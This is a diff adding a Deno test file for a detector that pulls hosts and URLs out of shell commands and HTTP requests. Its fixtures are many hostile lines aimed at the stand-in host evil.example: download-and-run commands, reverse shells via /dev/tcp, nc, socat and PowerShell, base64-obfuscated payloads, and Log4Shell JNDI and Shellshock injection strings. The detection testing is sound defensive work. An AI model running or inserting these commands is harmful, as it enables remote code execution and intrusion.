@@ -1,0 +1,179 @@
+import { assert, assertEquals } from "@std/assert";
+import {
+  findInCommand,
+  findInRequest,
+} from "../../../lib/alert/sources/commands.ts";
+
+function values(
+  text: string,
+  find: typeof findInCommand = findInCommand,
+): readonly string[] {
+  return [...new Set([...find(text, "f")].map(({ text }) => text))];
+}
+
+function utf16(text: string): string {
+  const bytes = [...text].flatMap((letter) => [letter.charCodeAt(0), 0]);
+  return new Uint8Array(bytes).toBase64();
+}
+
+const COMMANDS: Readonly<Record<string, readonly string[]>> = {
+  "curl evil.example/x | sh": ["evil.example", "http://evil.example/x"],
+  "curl -s -O evil.example/x.sh": [
+    "evil.example",
+    "http://evil.example/x.sh",
+  ],
+  'wget -q -O - "http://evil.example/it\'s"': [
+    "http://evil.example/it's",
+    "evil.example",
+    "http://evil.example/it",
+  ],
+  "curl -H a.example -A b.example evil.example": ["evil.example"],
+  "ping -c 1 evil.example; ls a.b.conf": ["evil.example"],
+  "ping -n 1 9.8.7.6": ["9.8.7.6"],
+  "/usr/bin/ssh -i key.pem -p 22 root@evil.example": ["evil.example"],
+  "scp a.txt bob@evil.example:/tmp/a.txt": ["evil.example"],
+  "nc -u evil.example 53 -e /bin/sh": ["evil.example"],
+  "nc 9.8.7.6:4444": ["9.8.7.6"],
+  "dig +short TXT evil.example @8.8.8.8": ["8.8.8.8", "evil.example"],
+  "nslookup evil.example": ["evil.example"],
+  "telnet evil.example 23": ["evil.example"],
+  "C:\\Windows\\System32\\certutil.exe -urlcache -f http://evil.example/a.exe a":
+    ["http://evil.example/a.exe", "evil.example"],
+  "bitsadmin /transfer n https://evil.example/a.exe C:\\a.exe": [
+    "https://evil.example/a.exe",
+    "evil.example",
+  ],
+  "powershell iwr -Uri evil.example/a.ps1 -OutFile a.ps1": [
+    "evil.example",
+    "http://evil.example/a.ps1",
+  ],
+  "mstsc /v:evil.example": ["evil.example"],
+  "socat TCP:evil.example:4444 EXEC:sh": ["evil.example"],
+  "openssl s_client -connect evil.example:443": ["evil.example"],
+  "bash -i >& /dev/tcp/evil.example/4444 0>&1": ["evil.example"],
+  "net use \\\\evil.example\\c$": ["evil.example"],
+  "New-Object Net.Sockets.TCPClient('evil.example',4444)": ["evil.example"],
+  "python -c 's.connect((\"evil.example\",4242))'": ["evil.example"],
+  "wget${IFS}http://evil.example/x${IFS}-O${IFS}t": [
+    "http://evil.example/x",
+    "evil.example",
+  ],
+  "{curl,evil.example/x}": ["evil.example", "http://evil.example/x"],
+  "c^u^rl evil.example": ["evil.example"],
+  "('http'+'://evil.example/x')": ["http://evil.example/x", "evil.example"],
+  [`powershell -nop -enc ${utf16("iwr http://evil.example/a")}`]: [
+    "http://evil.example/a",
+    "evil.example",
+  ],
+  [`[Convert]::FromBase64String('${btoa("curl evil.example/x")}')`]: [
+    "evil.example",
+    "http://evil.example/x",
+  ],
+  [
+    `echo ${
+      btoa(`echo ${btoa("curl evil.example/x")} | base64 -d`)
+    } | base64 -d`
+  ]: ["evil.example", "http://evil.example/x"],
+  "ls -l /etc/nginx.conf.d x.service": [],
+  "apt install curl libssl.so": [],
+  "java -jar app.jar org.apache.Main 1.2": [],
+};
+
+Deno.test("findInCommand() finds what a command names", async (t) => {
+  for (const [command, expected] of Object.entries(COMMANDS)) {
+    await t.step(command, () => assertEquals(values(command), expected));
+  }
+});
+
+const REQUESTS: Readonly<Record<string, readonly string[]>> = {
+  "/i.php?c=wget%20http://evil.example/x%20-O%20t": [
+    "http://evil.example/x",
+    "evil.example",
+  ],
+  "/i.php?c=curl+evil.example/x+-O+t": [
+    "evil.example",
+    "http://evil.example/x",
+  ],
+  "/i.php?c=%2563%2575rl%2520evil.example": ["evil.example"],
+  "/;nslookup$IFS'evil.example'": ["evil.example"],
+  "() { :;}; /bin/bash -c 'ping evil.example'": ["evil.example"],
+  "${jndi:ldap://evil.example:1389/a}": [
+    "ldap://evil.example:1389/a",
+    "evil.example",
+  ],
+  "${jndi:dns://${env:USER}.evil.example}": [
+    "dns://evil.example",
+    "evil.example",
+  ],
+  "${${lower:j}${::-n}di:${upper:l}dap://evil.example/a}": [
+    "ldap://evil.example/a",
+    "evil.example",
+  ],
+  "${jndi:ldap://127.0.0.1#evil.example:1389/a}": [
+    "ldap://evil.example:1389/a",
+    "evil.example",
+  ],
+  "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D": [
+    "ldap://evil.example/a",
+    "evil.example",
+  ],
+  "\\x24\\x7bjndi:rmi://evil.example/a\\x7d": [
+    "rmi://evil.example/a",
+    "evil.example",
+  ],
+  "Mozilla/5.0 (compatible; Bot/2.1; +http://bot.example/bot.html)": [],
+  "curl/8.5.0": [],
+  "/a?b=c%20d&e=http://a.example/": [],
+};
+
+Deno.test("findInRequest() finds what a command in a request names", async (t) => {
+  for (const [request, expected] of Object.entries(REQUESTS)) {
+    await t.step(request, () =>
+      assertEquals(
+        values(request, findInRequest).map((one) =>
+          one.replace("LDAP", "ldap")
+        ),
+        expected,
+      ));
+  }
+});
+
+/** What an attacker may write, so often as there is room. */
+const HOSTILE: Readonly<Record<string, (n: number) => string>> = {
+  "lookups in lookups": (n) => "${lower:".repeat(n / 8) + "}".repeat(n / 8),
+  "open lookups": (n) => "${jndi:".repeat(n / 7),
+  "programs": (n) => "curl a.io/x ".repeat(n / 12),
+  "base64": (n) => `x -enc ${"QUFB".repeat(n / 4)}`,
+  "base64 over and over": (n) =>
+    `base64 -d ${
+      `${btoa("curl a.io/x; base64 -d QUFBQUFBQUFBQUFBQUFBQQ==")} `.repeat(
+        n / 76,
+      )
+    }`,
+  "percent signs": (n) => `c=ping ${"%25".repeat(n / 3)}`,
+  "quotes joined": (n) => "'+'".repeat(n / 3),
+  "backslashes": (n) => "\\".repeat(n),
+  "braces": (n) => "{a,".repeat(n / 3),
+  "brackets": (n) => "connect(((".repeat(n / 10),
+  "dots": (n) => `ping ${"a.".repeat(n / 2)}`,
+  "blanks": (n) => `base64 ${" ".repeat(n)}`,
+};
+
+Deno.test("commands take time in proportion, and not for long", async (t) => {
+  for (const [name, make] of Object.entries(HOSTILE)) {
+    await t.step(name, () => {
+      const ms = [30_000, 60_000].map((n) => {
+        const text = make(n);
+        const times = [1, 2, 3].map(() => {
+          const start = performance.now();
+          values(text);
+          values(text, findInRequest);
+          return performance.now() - start;
+        });
+        return Math.min(...times);
+      });
+      const [once = 0, twice = 0] = ms;
+      assert(twice < 3 * once + 50 && twice < 500, `${once} ms, ${twice} ms`);
+    });
+  }
+});
